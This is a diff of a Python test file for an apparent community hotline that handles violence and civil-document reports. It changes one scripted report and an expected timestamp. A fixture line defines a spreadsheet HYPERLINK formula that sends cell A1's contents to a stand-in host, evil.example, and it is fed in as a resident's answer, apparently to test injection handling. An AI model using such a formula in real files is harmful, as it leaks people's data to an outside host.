@@ -47,8 +47,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 # Kekerasan in Lompoe, messages wanted, a name given; dokumen in Lemoe (WhatsApp) and Paokmotong.
 REPORT_A = (
     "halo", "iya", "ok setuju", "1", "gak", "sy sendiri", "34", "1", "suami", "LEWATI", STORY_A,
-    "lompoe", "1", "2", "malam", "Siti Aminah", "1",
-)  # fmt: skip
+    "lompoe", "1", "2", "kapan saja", "LEWATI", "Siti Aminah", "1",
+)  # fmt: skip  (any time: notices go at once; no code word: 18 messages, the last at 10:18)
 REPORT_B = ("halo", "ya", "ya", "dokumen", "akta", "anak", FORMULA, "lemoe", "1", "3", "LEWATI", "1")
 REPORT_C = ("halo", "ya", "ya", "dokumen", "akta", "anak", "Akta anak belum jadi", "paokmotong", "1", "3",
             "LEWATI", "1")  # fmt: skip
@@ -261,7 +261,7 @@ def test_cases_with_category_area_status_times_and_referrals(hotline, world, fmt
     assert (c["site"], c["area"]) == ("MSB", "Paokmotong")
     assert a["urgent"] in (False, "no") and a["holder"] == "Bu Ani"
     assert a["referrals"] in (["UPTD PPA"], "UPTD PPA") and b["referrals"] in ([], "", None)
-    assert a["created"] == f"{day(0)}T10:17:00+08:00"
+    assert a["created"] == f"{day(0)}T10:18:00+08:00"
     assert a["created"] < a["accepted"] < a["closed"] and a["closed"].endswith("+08:00")
     assert b["created"] == f"{day(2)}T00:42:00+08:00" and b["accepted"] in (None, "")
     assert a["resident"] == redact.pseudonym(contact_of(hotline, RESIDENT), SECRET) != b["resident"]
